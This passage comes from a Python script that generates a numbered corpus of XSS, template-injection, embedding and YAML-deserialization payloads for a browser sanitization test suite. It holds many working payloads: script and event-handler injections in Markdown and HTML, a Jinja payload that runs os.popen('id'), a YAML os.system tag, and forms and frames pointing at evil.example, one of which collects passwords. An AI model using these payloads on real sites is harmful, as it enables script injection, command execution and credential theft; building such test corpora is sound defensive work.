        '<div markdown="1">\n<img src=x onerror=__xss(NNN)>\n</div>',
        '<details markdown="1" open ontoggle=__xss(NNN)>\n<summary>x</summary>\ny\n</details>',
        '<span markdown="1">[x](javascript:__xss(NNN))</span>',
        '# Heading {: onclick="__xss(NNN)" }',
        "## Heading {: #x onmouseover=__xss(NNN) }",
        'Paragraph\n{: onmouseover="__xss(NNN)" }',
        '[x](https://a.example/){: onclick="__xss(NNN)" }',
        '![x](https://a.example/x.png){: onerror="__xss(NNN)" }',
        '![x](x.png){: onerror="__xss(NNN)" src="javascript:__xss(NNN)" }',
        '[x](https://a.example/){: href="javascript:__xss(NNN)" }',
        '*x*{: style="background:url(javascript:__xss(NNN))" }',
        "Text[^1]\n\n[^1]: <img src=x onerror=__xss(NNN)>",
        'Text[^a"><img src=x onerror=__xss(NNN)>]\n\n[^a"><img src=x onerror=__xss(NNN)>]: x',
        '*[HTML]: "><img src=x onerror=__xss(NNN)>\n\nHTML is here',
        "*[x]: javascript:__xss(NNN)\n\nx marks it",
        "Term\n: <img src=x onerror=__xss(NNN)>",
        "| <img src=x onerror=__xss(NNN)> |\n|---|\n| x |",
        "| a |\n|---|\n| [x](javascript:__xss(NNN)) |",
        '```{ .x onclick="__xss(NNN)" }\ncode\n```',
        "``` onerror=__xss(NNN)\ncode\n```",
        "[[x](javascript:__xss(NNN))](https://a.example/)",
        "## <img src=x onerror=__xss(NNN)>",
        "> <script>__xss(NNN)</script>",
        "- <svg onload=__xss(NNN)>",
        "Title\n=====\n<img src=x onerror=__xss(NNN)>",
        "<img src=x *onerror*=__xss(NNN)>",
        "<img src=x _onerror_=__xss(NNN)>",
        "\\<script>__xss(NNN)\\</script>",
        '<a href="javascript:__xss(NNN)">[x](https://a.example/)</a>',
        '[x](data:text/html;base64,@B64SCRIPT@ "t")',
        "[x](vbscript:__xss(NNN) 'title')",
        '![x](data:image/svg+xml;base64,@B64SVG@ "t")',
        "[x](//evil.example/NNN)",
        '[x](https://a.example/ "<img src=x onerror=__xss(NNN)>")',
        "[x](&#x6A;avascript:__xss(NNN) (title))",
        "[x](javas&#99;ript:__xss(NNN))",
        "[x](%6Aavascript:__xss(NNN))",
        "[x]: javascript:__xss(NNN)\n[y]: https://a.example/\n\n[x] [y]",
        "<https://a.example/?a=<script>__xss(NNN)</script>>",
        "https://a.example/<script>__xss(NNN)</script>",
        'www.a.example/"><img src=x onerror=__xss(NNN)>',
        '[x](</posts/"><img src=x onerror=__xss(NNN)>/>)',
        '![x](</static/"><img src=x onerror=__xss(NNN)>.png>)',
        "---\nlink: javascript:__xss(NNN)\n---\ntitle: <script>__xss(NNN)</script>",
    ]


def template_syntax() -> list[str]:
    return [
        "{{ 7*7 }}",
        "{{7*7}}",
        "{% print 1 %}",
        "{{ config }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{ 1337*1337 }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{% raw %}{{ 7*7 }}{% endraw %}",
        "{# a Jinja comment #}still visible NNN",
        "{{ url('x') }}",
        "{{ site.members }}",
        "{% include 'base.html' %}",
        "{% extends 'base.html' %}",
        "{{ '<script>__xss(NNN)</script>'|safe }}",
        '{{ "<img src=x onerror=__xss(NNN)>"|safe }}',
        "{% set x = '<svg onload=__xss(NNN)>' %}{{ x|safe }}",
        "[[ 7*7 ]]",
        "{{= 7*7 }}",
        "@{7*7}",
        "*{7*7}",
        "{{constructor.constructor('__xss(NNN)')()}}",
        "{{$on.constructor('__xss(NNN)')()}}",
        "<div v-html=\"'<img src=x onerror=__xss(NNN)>'\">x</div>",
        "${__xss(NNN)}",
        "{{ range.__init__ }}{% for x in range(NNN) %}{% endfor %}",
        "{% if 1 %}NNN{% endif %}",
        "{{ config.__class__.__init__.__globals__['os'] }}",
        '<!--#exec cmd="id"-->',
        "<?php echo NNN*NNN; ?>",
    ]


def embedding() -> list[str]:
    return [
        '<iframe srcdoc="<script>__xss(NNN)</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=__xss(NNN)&gt;"></iframe>',
        '<object data="data:text/html,<script>__xss(NNN)</script>"></object>',
        '<embed src="data:text/html,<script>__xss(NNN)</script>">',
        '<embed type=image/svg+xml src="data:image/svg+xml;base64,@B64SVG@">',
        '<base href="javascript:__xss(NNN)//">',
        '<base href="https://evil.example/NNN/">',
        '<meta http-equiv="refresh" content="0;url=javascript:__xss(NNN)">',
        '<meta http-equiv="refresh" content="0;url=data:text/html,<script>__xss(NNN)</script>">',
        '<meta http-equiv="set-cookie" content="x=NNN">',
        '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'
        "<script>__xss(NNN)</script>",
        '<meta charset="utf-7">+ADw-script+AD4-__xss(NNN)+ADw-/script+AD4-',
        '<form action="javascript:__xss(NNN)"><button>x</button></form>',
        '<form><button formaction="javascript:__xss(NNN)">x</button></form>',
        "<form id=f></form><button form=f formaction=javascript:__xss(NNN)>x</button>",
        '<form action="https://evil.example/NNN"><input name=password type=password></form>',
        "<isindex action=javascript:__xss(NNN) type=submit>",
        '<portal src="javascript:__xss(NNN)"></portal>',
        '<frameset><frame src="javascript:__xss(NNN)"></frameset>',
        '<applet code="javascript:__xss(NNN)"></applet>',
        "<input type=image formaction=javascript:__xss(NNN) src=x>",
        "<dialog open onclose=__xss(NNN)><form method=dialog><button>x</button></form></dialog>",
        "<x-foo onclick=__xss(NNN)>custom</x-foo>",
        '<a href="https://example.org/" target="_self" rel="opener">opener NNN</a>',
        '<video><source src="javascript:__xss(NNN)"></video>',
        '<iframe src="https://evil.example/NNN" sandbox="allow-scripts allow-top-navigation">'
        "</iframe>",
        '<object data="https://evil.example/NNN.swf" type="application/x-shockwave-flash">'
        "<param name=allowScriptAccess value=always></object>",
        '<img src="https://evil.example/pixel-NNN.gif" width=1 height=1>',
        '<a href="https://evil.example/NNN" download>download</a>',
        "<input type=hidden accesskey=x onclick=__xss(NNN)>",
        "<math><maction actiontype=toggle onclick=__xss(NNN)>x</maction></math>",
        "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=__xss(NNN)>y</div>",
        '<svg><a href="#"><animate attributeName="href" begin="0s" '
        'to="javascript:__xss(NNN)"/><text y=9>x</text></a></svg>',
        '<a href="https://example.org/" id="__xss">clobbers the hook NNN</a>',
        "<form name=__xss><input name=NNN></form>",
        "<img name=getElementById src=x> clobbers document NNN",
        '<iframe name=__xss src="https://evil.example/NNN"></iframe>',
    ]


def yaml_raw() -> list[str]:
    """Raw YAML values for a title line (written unquoted): tags, anchors, flow syntax."""
    return [
        "!!python/object/apply:os.system ['echo NNN']",
        "!!python/name:os.system",
        "!!binary PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
        "&a [*a, '<script>__xss(NNN)</script>']",
        "{link: 'javascript:__xss(NNN)'}",
        '["<script>__xss(NNN)</script>"]',
        "'it''s <img src=x onerror=__xss(NNN)>'",
        '"\\x3cscript\\x3e__xss(NNN)\\x3c/script\\x3e"',
        '"\\u003cimg src=x onerror=__xss(NNN)\\u003e"',
        "|\n  <script>__xss(NNN)</script>",
        "<svg onload=__xss(NNN)> # a comment",
        "!str <svg onload=__xss(NNN)>",
    ]


FAMILIES = [
    ("script", "script elements, however spelled, closed or nested", script_tags),
    ("events", "event handlers: self-firing ones, then those that need a person", event_handlers),
    ("schemes", "javascript:/data:/vbscript: URLs, obfuscated, in HTML and Markdown", url_schemes),
    ("svg", "SVG: links, animation of href, use, foreignObject, style", svg),
    ("mathml", "MathML and its HTML integration points", mathml),
    ("css", "style attributes and elements: expression(), url(javascript:), imports", css),
    ("mutation", "mutation XSS: raw-text elements, comments, namespace confusion", mutation),
    ("broken", "broken, unclosed and misnested tags", broken),
    ("entities", "entity and escape tricks; code spans and blocks that must stay text", entities),
    ("breakout", "leaving an attribute, a title, a script, an XML or JSON string", breakouts),
    ("url-breakout", "valid http(s) URLs that try to leave their href", lambda: URL_BREAKOUTS),
    ("markdown", "Markdown: links, references, autolinks, attribute lists, HTML", markdown),
    ("template", "template syntax: Jinja, others; must stay literal", template_syntax),
    ("embedding", "frames, objects, base, meta refresh, forms, DOM clobbering", embedding),
    ("yaml", "raw YAML values for a front-matter field (written unquoted)", yaml_raw),
]


def build() -> dict[str, object]:
    n = 0
    seen: set[str] = set()
    families = []
    for name, comment, make in FAMILIES:
        payloads = []
        for template in make():
            n += 1
            payload = template.replace("NNN", str(n))
            script = f"<script>__xss({n})</script>"
            svg_doc = f"<svg xmlns='http://www.w3.org/2000/svg' onload='__xss({n})'/>"
            payload = payload.replace("@B64SCRIPT@", _b64(script))
            payload = payload.replace("@B64SVG@", _b64(svg_doc))
            payload = payload.replace("@B64HOOK@", _b64(f"__xss({n})"))
            if template in seen:  # distinct before numbering, not only by their number
                raise ValueError(f"duplicate payload in {name}: {template!r}")
            seen.add(template)
            payloads.append(payload)
        families.append({"family": name, "comment": comment, "payloads": payloads})
    return {
        "about": "Hostile inputs for tests/browser/test_xss.py; made by make_xss_payloads.py. "
        "A payload that runs script calls __xss(N) (or alert/confirm/prompt/print/open), "
        "N being its number, counted from 1 across the families in order.",
        "families": families,
    }


if __name__ == "__main__":
    corpus = build()
    OUT.write_text(json.dumps(corpus, indent=1, ensure_ascii=True) + "\n", encoding="utf-8")
    total = sum(len(f["payloads"]) for f in corpus["families"])  # type: ignore[attr-defined]
    print(f"{OUT}: {total} payloads")
